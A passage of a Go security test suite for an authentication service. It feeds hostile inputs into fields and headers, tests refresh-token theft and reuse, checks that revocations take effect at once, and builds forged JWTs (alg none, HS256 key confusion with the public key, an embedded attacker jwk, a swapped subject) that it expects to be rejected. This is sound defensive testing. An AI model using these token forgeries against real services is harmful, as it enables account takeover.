		if d.Body == nil || strings.HasPrefix(d.Path, "/api/v1/auth/") && d.Path != "/api/v1/auth/register" {
			continue // those below
		}
		i := slices.IndexFunc(scenarios, func(sc scenario) bool { return sc.pattern() == d.Method+" "+d.Path })
		for name, kind := range fieldsOf(d.Body) {
			for _, text := range nasty {
				value, takesText := filled(kind, text)
				if !takesText {
					break
				}
				method, address, body := s.request(&scenarios[i], &who)
				var fields map[string]any
				if err := json.Unmarshal([]byte(body+strings.Repeat("{}", 1-min(1, len(body)))), &fields); err != nil {
					t.Fatal(err)
				}
				fields[name] = value
				r := b.ask(method, address, jsonOf(fields))
				if strings.Contains(d.Path, "/sessions") {
					b, who = s.caller("global") // for it ended b's session
				}
				if r.status == 401 || r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" || r.body != "" && !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") ||
					strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
					t.Errorf("%s %s, %s=%q: %d %v %s", method, d.Path, name, text, r.status, r.header, r.body)
				}
				as := []string{text, strings.Join(strings.Fields(text), " "), strings.ReplaceAll(text, "\r\n", "\n")}
				if got, shown := r.field(name).(string); r.status < 300 && shown && !slices.Contains(as, got) && name != "value" && name != "domain" {
					t.Errorf("%s %s, %s=%q is given back as %q", method, d.Path, name, text, got)
				}
			}
		}
	}
	for _, text := range nasty {
		stranger := s.browser()
		stranger.headers = []string{"User-Agent", strings.NewReplacer("\r", "", "\n", "").Replace(text)}
		if r := stranger.try(text, text); r.status != 401 {
			t.Errorf("signing in as %q: %d %s", text, r.status, r.body)
		}
		stranger.want(401, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": text, "password": text, "code": text}))
		stranger.want(401, http.MethodPost, "/api/v1/auth/refresh", jsonOf(map[string]any{"refresh_token": text}))
		for _, header := range []string{"Authorization", "X-API-Key", "Cookie", "X-CSRF-Token"} {
			value := strings.NewReplacer("\r", "", "\n", "").Replace(text)
			if r := s.browser().ask(http.MethodGet, "/api/v1/me", "", header, value); r.status != 401 {
				t.Errorf("%s: %s: %d %s", header, value, r.status, r.body)
			}
		}
	}
	for _, path := range []string{"/api/v1/audit?limit=500", "/api/v1/users", "/api/v1/companies", "/api/v1/keys", "/api/v1/me/tokens"} {
		r := b.want(200, http.MethodGet, path, "")
		if !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" || !json.Valid([]byte(r.body)) {
			t.Errorf("%s: %v", path, r.header)
		}
	}
	if check := b.want(200, http.MethodGet, "/api/v1/audit/verify", ""); check.field("broken") != nil {
		t.Errorf("the audit trail: %s", check.body)
	}
}

// filled is a value of a body's field in which every text is the one given; takesText: there is any.
func filled(kind reflect.Type, text string) (value any, takesText bool) {
	switch kind.Kind() {
	case reflect.Pointer:
		return filled(kind.Elem(), text)
	case reflect.String:
		return text, true
	case reflect.Slice:
		if kind.Elem().Kind() == reflect.Uint8 { // JSON of any kind
			return map[string]any{"id": text, "type": text, "response": map[string]any{"clientDataJSON": text, text: text}}, true
		}
		one, takesText := filled(kind.Elem(), text)
		return []any{one, one}, takesText
	case reflect.Struct:
		fields := map[string]any{}
		for name, field := range fieldsOf(kind) {
			if one, takes := filled(field, text); takes {
				fields[name], takesText = one, true
			}
		}
		return fields, takesText
	case reflect.Map:
		one, takesText := filled(kind.Elem(), text)
		return map[string]any{text: one}, takesText
	}
	return nil, false
}

// TestNastyEvents sends them as events, in every field, and asks the viewer's routes for them in every parameter.
func TestNastyEvents(t *testing.T) {
	s := newScene(t)
	b, _ := s.caller("global")
	_, secret := s.people.key(s.beta.ID, authsvc.ScopeIngest|authsvc.ScopeRead)
	program := s.program("X-API-Key", secret)
	fields := []string{"EventType", "UserName", "ComputerName", "Domain", "SID", "IPAddress", "PublicIP", "LogonId", "LogonType", "Status", "SubStatus", "SourceHost", "RecordID", "Channel", "Provider", "AgentVersion", "Timestamp", "retry"}
	sent := 0
	for _, text := range nasty {
		for _, field := range append(fields, text) {
			event := map[string]any{"EventType": "Logon", "UserName": "u", "ComputerName": "c", "Timestamp": time.Now().UTC().Format(time.RFC3339)}
			event[field] = text
			for _, path := range []string{"/api/log_event", "/api/v1/events"} {
				r := program.ask(http.MethodPost, path, jsonOf(event))
				if r.status >= 500 || !json.Valid([]byte(r.body)) || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" ||
					!strings.Contains(r.header.Get("Content-Security-Policy"), "default-src 'none'") {
					t.Errorf("%s with %s=%q: %d %v %s", path, field, text, r.status, r.header, r.body)
				}
				if r.status == http.StatusCreated {
					sent++
				}
			}
		}
	}
	if sent < len(nasty) {
		t.Errorf("%d events were taken: the test shows nothing", sent)
	}
	if err := s.writer.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	day := time.Now().UTC()
	base := url.Values{"company": {"Beta"}, "from": {day.AddDate(0, 0, -1).Format(time.DateOnly)}, "to": {day.AddDate(0, 0, 1).Format(time.DateOnly)}}
	params := []string{"company", "from", "to", "at", "user", "computer", "site", "type", "q", "group_by", "split", "timezone", "format", "limit", "cursor", "sort", "order", "elevated", "unknown"}
	for i := range scenarios {
		method, path, _ := strings.Cut(scenarios[i].route, " ")
		if method != http.MethodGet || path != "/api/v1/events" && !strings.HasPrefix(path, "/api/v1/reports/") || strings.Contains(path, "{") {
			continue
		}
		for _, param := range params {
			for _, text := range nasty {
				q := maps.Clone(base)
				q.Set(param, text)
				r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
				if r.status >= 500 || !json.Valid([]byte(r.body)) || strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
					t.Errorf("%s?%s=%q: %d %s", path, param, text, r.status, r.body)
				}
			}
		}
		// All of what was stored, in both forms: as JSON no page, as CSV a file.
		for _, format := range []string{"json", "csv"} {
			q := maps.Clone(base)
			q.Set("format", format)
			r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
			if kind := r.header.Get("Content-Type"); r.status < 300 && !strings.HasPrefix(kind, "application/json") && !strings.HasPrefix(kind, "text/csv") || r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s as %s: %d %v", path, format, r.status, r.header)
			}
		}
	}
}

// TestRefreshReuse steals a refresh token.
func TestRefreshReuse(t *testing.T) {
	p := startPeople(t, nil)
	u := p.person(authsvc.RoleGlobalAdmin, "")
	owner, thief := p.browser(), p.browser()
	pair := owner.want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword}))
	exchange := func(b *browser, from reply, status int) reply {
		t.Helper()
		// An access token that has ended must not be in the way.
		return b.want(status, http.MethodPost, "/api/v1/auth/refresh", jsonOf(map[string]any{"refresh_token": from.text("refresh_token")}), "Authorization", "Bearer "+from.text("access_token")+"x")
	}
	stolen := pair
	next := exchange(owner, pair, 200)
	p.program("Authorization", "Bearer "+next.text("access_token")).want(200, http.MethodGet, "/api/v1/me/programs", "")
	exchange(thief, stolen, 401)
	exchange(owner, next, 401) // it was in two hands: nobody has it any more
	p.program("Authorization", "Bearer "+next.text("access_token")).want(401, http.MethodGet, "/api/v1/me", "")
	rows, _, err := p.store.ListAudit(t.Context(), localActor(), authsvc.AuditFilter{Action: "token.reuse"}, authsvc.Page{})
	if err != nil || len(rows) != 1 || rows[0].TargetName != u.Username {
		t.Errorf("the audit trail: %+v, %v", rows, err)
	}
	// A program can sign itself out, also one that may only read.
	reader := p.browser().want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword, "scopes": []string{"read"}}))
	program := p.program("Authorization", "Bearer "+reader.text("access_token"))
	program.want(200, http.MethodGet, "/api/v1/reports?company=Default", "")
	program.want(403, http.MethodGet, "/api/v1/users", "")
	program.want(204, http.MethodPost, "/api/v1/auth/sign-out", "")
	program.want(401, http.MethodGet, "/api/v1/me", "")
	exchange(program, reader, 401)
}

// TestForgedTokens changes access tokens, and makes some.
func TestForgedTokens(t *testing.T) {
	p := startPeople(t, nil)
	alpha := p.company("Alpha")
	u := p.person("", authsvc.RoleUser, alpha.ID)
	access := p.browser().want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword})).text("access_token")
	p.program("Authorization", "Bearer "+access).want(200, http.MethodGet, "/api/v1/me", "")
	parts := strings.Split(access, ".")
	if len(parts) != 3 {
		t.Fatalf("%d parts", len(parts))
	}
	plain := must(base64.RawURLEncoding.DecodeString(parts[1]))
	seg := func(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }
	asAdmin := seg(strings.NewReplacer(fmt.Sprintf(`"sub":"%d"`, u.ID), `"sub":"1"`, fmt.Sprintf(`"sub":%d`, u.ID), `"sub":1`).Replace(string(plain)))
	// A key of the forger's own, in the header, with which the token is really signed: under the name that it has there, and under that of ours.
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	var head struct {
		KeyID string `json:"kid"`
	}
	if err := json.Unmarshal(must(base64.RawURLEncoding.DecodeString(parts[0])), &head); err != nil || head.KeyID == "" {
		t.Fatal(head, err)
	}
	own := func(kid, payload string) string {
		head := seg(jsonOf(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid, "jwk": map[string]any{"kty": "OKP", "crv": "Ed25519", "kid": kid, "x": base64.RawURLEncoding.EncodeToString(public)}}))
		return head + "." + payload + "." + base64.RawURLEncoding.EncodeToString(ed25519.Sign(private, []byte(head+"."+payload)))
	}
	symmetric := func(secret []byte, jwk string) string {
		head := seg(`{"alg":"HS256","typ":"JWT","kid":"` + head.KeyID + `"` + jwk + `}`)
		mac := hmac.New(sha256.New, secret)
		_, _ = mac.Write([]byte(head + "." + asAdmin))
		return head + "." + asAdmin + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
	}
	sealer := must(authsvc.NewSealer(must(authsvc.LoadSecretKey("", p.dataDir))...))
	ours, ok := ed25519.NewKeyFromSeed(sealer.Keys(authsvc.PurposeAccessToken)[0]).Public().(ed25519.PublicKey)
	if !ok {
		t.Fatal("no public key")
	}
	for name, forged := range map[string]string{
		"its own key":               own("mine", asAdmin),
		"its own key as ours":       own(head.KeyID, asAdmin),
		"its own key, same content": own(head.KeyID, parts[1]),
		"a secret of its own":       symmetric([]byte{0, 0, 0}, `,"jwk":{"kty":"oct","k":"AAAA"}`),
		"our public key as secret":  symmetric(ours, ""),
		"another person":            parts[0] + "." + asAdmin + "." + parts[2],
		"alg none":                  seg(`{"alg":"none","typ":"JWT"}`) + "." + asAdmin + ".",
		"alg None, signed":          seg(`{"alg":"None","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
		"no signature":              parts[0] + "." + parts[1] + ".",
		"another alg":               seg(`{"alg":"RS256","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
		"two parts":                 parts[0] + "." + parts[1],
		"cut":                       access[:len(access)-2],
	} {
		if r := p.program("Authorization", "Bearer "+forged).ask(http.MethodGet, "/api/v1/me", ""); r.status != 401 {
			t.Errorf("%s: %d %s", name, r.status, r.body)
		}
	}
	// One in the place of a cookie, of a key, in the query.
	p.program("Cookie", sessionCookie+"="+access).want(401, http.MethodGet, "/api/v1/me", "")
	p.browser().want(401, http.MethodGet, "/api/v1/reports?access_token="+access, "")
}

// TestChangesCountAtOnce changes a person while they are signed in, in every way: by browser, by program and by personal token.
func TestChangesCountAtOnce(t *testing.T) {
	p := startPeople(t, nil)
	alpha := p.company("Alpha")
	admin := p.person(authsvc.RoleGlobalAdmin, "")
	boss := p.signIn(&admin)
	for _, c := range []struct {
		name, method, path, body string
		status                   int
		personal                 int // what a personal token gets then
	}{
		{"disabled", "POST", "/disable", "", 200, 401},
		{"deleted", "DELETE", "", "", 204, 401},
		{"another password", "POST", "/reset-password", "{}", 200, 401},
		{"no second factor", "POST", "/reset-mfa", "", 200, 401},
		{"another role", "PATCH", "", `{"role":"Admin"}`, 200, 200}, // it goes on, with what the person may do now
	} {
		u := p.person("", authsvc.RoleUser, alpha.ID)
		b := p.signIn(&u)
		program := p.program("Authorization", "Bearer "+p.browser().want(200, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": u.Username, "password": goodPassword})).text("access_token"))
		token := b.want(201, http.MethodPost, "/api/v1/me/tokens", jsonOf(map[string]any{"name": "x", "scopes": []string{"read"}, "expires": time.Now().Add(time.Hour)})).text("token")
		personal := p.program("Authorization", "Bearer "+token)
		for _, who := range []*browser{b, program, personal} {
			who.want(200, http.MethodGet, "/api/v1/reports", "")
		}
		boss.want(c.status, c.method, fmt.Sprintf("/api/v1/users/%d%s", u.ID, c.path), c.body)
		for what, r := range map[string]reply{
			"the session": b.ask(http.MethodGet, "/api/v1/reports", ""), "the program": program.ask(http.MethodGet, "/api/v1/reports", ""),
			"the session on a page": b.ask(http.MethodGet, "/api/v1/me", ""),
		} {
			if r.status != 401 {
				t.Errorf("%s: %s still gets %d", c.name, what, r.status)
			}
		}
		personal.want(c.personal, http.MethodGet, "/api/v1/me", "")
		if c.name == "another role" {
			// A browser whose session has ended can begin anew with the cookie that it still has.
			b.csrf = ""
			if r := b.try(u.Username, goodPassword); r.status != 200 {
				t.Errorf("with an old cookie: %d %s", r.status, r.body)
			}
		}
	}
	// A membership is asked for with each request.
	u := p.person("", authsvc.RoleCompanyAdmin, alpha.ID)
	b := p.signIn(&u)
	b.want(200, http.MethodGet, fmt.Sprintf("/api/v1/companies/%d/keys", alpha.ID), "")
	boss.want(200, http.MethodPut, fmt.Sprintf("/api/v1/users/%d/memberships/%d", u.ID, alpha.ID), `{"role":"User"}`)
	b.want(403, http.MethodGet, fmt.Sprintf("/api/v1/companies/%d/keys", alpha.ID), "")
	boss.want(204, http.MethodDelete, fmt.Sprintf("/api/v1/users/%d/memberships/%d", u.ID, alpha.ID), "")
	b.want(404, http.MethodGet, fmt.Sprintf("/api/v1/companies/%d/keys", alpha.ID), "")
	// Whoever was promoted, in a company too, signs in again: an id from before must not be worth more than it was.
	promoted := p.person("", authsvc.RoleUser, alpha.ID)
	for _, member := range []uint32{alpha.ID, p.company("Gamma").ID} {
		b := p.signIn(&promoted)
		boss.want(200, http.MethodPut, fmt.Sprintf("/api/v1/users/%d/memberships/%d", promoted.ID, member), `{"role":"CompanyAdmin"}`)
		b.want(401, http.MethodGet, "/api/v1/me", "")
	}
	b = p.signIn(&promoted)
	boss.want(200, http.MethodPut, fmt.Sprintf("/api/v1/users/%d/memberships/%d", promoted.ID, alpha.ID), `{"role":"User"}`)
	b.want(200, http.MethodGet, "/api/v1/me", "") // with less it goes on
	// A password that was made for somebody comes first.
	made := boss.want(201, http.MethodPost, "/api/v1/users", `{"username":"newcomer","email":"newcomer@example.com","role":"Admin"}`)
	fresh := p.browser()
	if r := fresh.try("newcomer", made.text("temporary_password")); r.status != 200 || r.text("next") != "change_password" {
		t.Fatal(r.status, r.body)
	}
	fresh.want(403, http.MethodGet, "/api/v1/companies", "")
	fresh.want(204, http.MethodPost, "/api/v1/me/password", jsonOf(map[string]any{"old_password": made.text("temporary_password"), "password": goodPassword}))
	fresh.want(200, http.MethodGet, "/api/v1/companies", "")
	// The last GlobalAdmins cannot lock everybody out.
	boss.want(200, http.MethodPost, "/api/v1/users/1/disable", "")
	boss.want(409, http.MethodPost, fmt.Sprintf("/api/v1/users/%d/disable", admin.ID), "")
	boss.want(409, http.MethodPatch, fmt.Sprintf("/api/v1/users/%d", admin.ID), `{"role":"User"}`)
	boss.want(409, http.MethodDelete, fmt.Sprintf("/api/v1/users/%d", admin.ID), "")
}

// heldBack is a body of which the server gets nothing before it asks for it, by when it has let the request in.
type heldBack struct {
	io.Reader
	meanwhile func()
}

func (h *heldBack) Read(p []byte) (int, error) {
	if h.meanwhile != nil {
		h.meanwhile()
		h.meanwhile = nil
	}
	return h.Reader.Read(p)
}

// TestBodyAfterRightsAreGone begins a request with the rights of a CompanyAdmin and ends it without them.
func TestBodyAfterRightsAreGone(t *testing.T) {
	p := startPeople(t, nil)
	alpha := p.company("Alpha")
	slow := *p.http
	transport, ok := p.http.Transport.(*http.Transport)
	if !ok {
		t.Fatalf("the client's transport is a %T", p.http.Transport)
	}
	transport = transport.Clone()
	transport.ExpectContinueTimeout = time.Minute
	slow.Transport = transport
	for what, c := range map[string]struct {
		lose func(*authsvc.User)
		want int
	}{
		"nothing happens": {func(*authsvc.User) {}, 201},
		"disabled":        {func(u *authsvc.User) { must(p.store.DisableUser(t.Context(), localActor(), u.ID)) }, 401},
		"demoted": {func(u *authsvc.User) {
			must(p.store.SetMembership(t.Context(), localActor(), u.ID, authsvc.Grant{CompanyID: alpha.ID, Role: authsvc.RoleUser}))
		}, 409},
	} {
		u := p.person("", authsvc.RoleCompanyAdmin, alpha.ID)
		token := p.signIn(&u).want(201, http.MethodPost, "/api/v1/me/tokens", jsonOf(map[string]any{
			"name": "x", "scopes": []string{"read", "manage"}, "expires": time.Now().Add(time.Hour),
		})).text("token")
		asked := false
		body := &heldBack{strings.NewReader(`{"scopes":["read"]}`), func() { asked = true; c.lose(&u) }}
		r := must(http.NewRequestWithContext(t.Context(), http.MethodPost, fmt.Sprintf("%s/api/v1/companies/%d/keys", p.base(), alpha.ID), body))
		for name, value := range map[string]string{"Authorization": "Bearer " + token, "Content-Type": "application/json", "Expect": "100-continue"} {
			r.Header.Set(name, value)
		}
		resp, err := slow.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		text := must(io.ReadAll(resp.Body))
		if err := resp.Body.Close(); err != nil {
			t.Error(err)
		}
		if resp.StatusCode != c.want || !asked {
			t.Errorf("%s: %d, want %d (the body was asked for: %v): %s", what, resp.StatusCode, c.want, asked, text)
		}
	}
}
